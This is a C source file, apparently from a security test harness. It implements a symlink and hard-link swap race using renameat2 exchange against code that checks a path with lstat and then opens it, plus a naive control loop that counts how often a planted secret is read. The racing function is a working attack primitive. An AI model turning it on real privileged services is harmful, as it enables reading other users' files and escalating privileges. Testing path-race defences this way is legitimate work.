/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Somebody who owns the folder of an image and changes what its path means,
 * as fast as the kernel goes, while others check and open it:
 *
 *   escape race WAY FOLDER OTHER     until killed; as the folder's owner
 *   escape naive PATH SECRET ROUNDS  the control: check, then open; how often it was fooled
 *
 * WAY link: FOLDER/disk.img is by turns a file and a symbolic link to OTHER.
 * WAY folder: FOLDER/sub is by turns a folder and a symbolic link to OTHER's.
 * WAY hard: FOLDER/disk.img is by turns a file and a hard link to OTHER.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

#define EXCHANGE 2u     /* RENAME_EXCHANGE */

static int swap_forever(const char *a, const char *b)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE) < 0)
			return -errno;
}

int race_run(const char *way, const char *folder, const char *other)
{
	char real[PATH_MAX], false_one[PATH_MAX];
	bool sub = !strcmp(way, "folder");

	if (strlen(folder) + 16 > sizeof(real))
		return -ENAMETOOLONG;
	snprintf(real, sizeof(real), "%s/%s", folder, sub ? "sub" : "disk.img");
	snprintf(false_one, sizeof(false_one), "%s/swapped", folder);
	/* a hard link to another's file the kernel refuses us, if it does: then it was made before */
	if ((!strcmp(way, "hard") ? link(other, false_one) : symlink(other, false_one)) < 0 &&
	    access(false_one, F_OK) < 0)
		return -errno;
	return swap_forever(real, false_one);
}

/* lstat, and if it is a plain file, open: what must not be done. */
int race_naive(const char *path, const char *secret, long rounds)
{
	long fooled = 0;

	target_add("victim_secret", secret);
	for (long i = 0; i < rounds; i++) {
		struct stat st;

		if (lstat(path, &st) == 0 && S_ISREG(st.st_mode) && read_secret(path) == 0)
			fooled++;
	}
	printf("%ld\n", fooled);
	return 0;
}
